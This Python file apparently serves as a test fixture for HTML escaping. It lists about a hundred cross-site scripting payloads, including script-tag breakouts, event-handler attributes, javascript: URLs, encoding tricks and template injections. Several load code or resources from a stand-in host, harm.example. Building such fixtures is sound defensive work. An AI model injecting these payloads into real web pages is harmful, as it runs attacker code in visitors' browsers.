"""A hundred names that mean harm to whoever opens a page with them: they run, fetch, or break out of where they are."""

RUN = "window.harmed=1"
ASK = "http://harm.example/"
SCRIPTS = (
    f"<script>{RUN}</script>", f"</script><script>{RUN}</script>", f"</SCRIPT ><SCRIPT >{RUN}</SCRIPT >",
    f"<script src={ASK}></script>", f"<script type=module>{RUN}</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<!--<script>{RUN}</script>", f"--><script>{RUN}</script>", f"]]><script>{RUN}</script>",
    f"</style><script>{RUN}</script>", f"</title><script>{RUN}</script>", f"</noscript><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>", f"</svg><script>{RUN}</script>", f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext><script>{RUN}</script>", f"<template><script>{RUN}</script></template>", f"\0<script>{RUN}</script>",
    f"<script\n>{RUN}</script\n>", f"<script/x>{RUN}</script>",
)  # fmt: skip
ELEMENTS = (
    f"<img src=x onerror={RUN}>", f'"><img src=x onerror="{RUN}">', f"'><img src=x onerror='{RUN}'>",
    f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f"<body onload={RUN}>", f"<iframe srcdoc='<script>{RUN}</script>'>",
    f"<iframe src=javascript:{RUN}>", f"<a href=javascript:{RUN}>x</a>", f"<object data={ASK}>", f"<embed src={ASK}>",
    f"<link rel=stylesheet href={ASK}>", f"<link rel=prefetch href={ASK}>", f"<base href={ASK}>",
    f"<meta http-equiv=refresh content='0;url={ASK}'>", f"<form action={ASK}><button autofocus onfocus={RUN}>",
    f"<input autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>", f"<video src={ASK} onerror={RUN}>",
    f"<audio src={ASK} autoplay>", f"<style>@import '{ASK}';</style>", f"<style>body{{background:url({ASK})}}</style>",
    f"<div style='background:url({ASK})'>", f"<img src={ASK}>", f"<picture><source srcset={ASK}><img></picture>",
    f"<marquee onstart={RUN}>", f"<isindex action=javascript:{RUN} type=image>", f"<table background={ASK}>",
    f"<noscript><p title='</noscript>{RUN}'>", f"<image href={ASK}>",
)  # fmt: skip
ATTRIBUTES = (
    f'" onload="{RUN}', f"' onload='{RUN}", f"` onload=`{RUN}", f'" autofocus onfocus="{RUN}" x="', f'"{RUN}//',
    f"'-{RUN}-'", f'";{RUN};"', f"\\';{RUN};//", f'\\";{RUN};//', f"\\u0022;{RUN};//", f"&quot; onload=&quot;{RUN}",
    f"&#34; onload=&#34;{RUN}", "&lt;script&gt;", "&amp;lt;script&amp;gt;", "&#x3c;script&#x3e;", "&lt", "&", "<", ">",
    '"', "'", "`", "=", "<>", "</", "<!", "<?xml?>", "<!doctype x>", "<!--", "-->",
)  # fmt: skip
TEXTS = (
    f"javascript:{RUN}", f"data:text/html,<script>{RUN}</script>", f"vbscript:{RUN}", f"${{{RUN}}}", f"{{{{{RUN}}}}}",
    f"{{% {RUN} %}}", f"<%= {RUN} %>", f"#{{{RUN}}}", f"[[{RUN}]]", f"\u2028{RUN}\u2029",
    f"\u2028<script>{RUN}</script>",
    f"{RUN}\r\n\r\n<script>{RUN}</script>", f"\ufeff<script>{RUN}</script>", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\u202e<script>{RUN}</script>", f"\x1b]0;{RUN}\x07", f"\x08<script>{RUN}</script>", "%3Cscript%3E",
    "\\x3cscript\\x3e", f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
)  # fmt: skip
NAMES = (*SCRIPTS, *ELEMENTS, *ATTRIBUTES, *TEXTS)
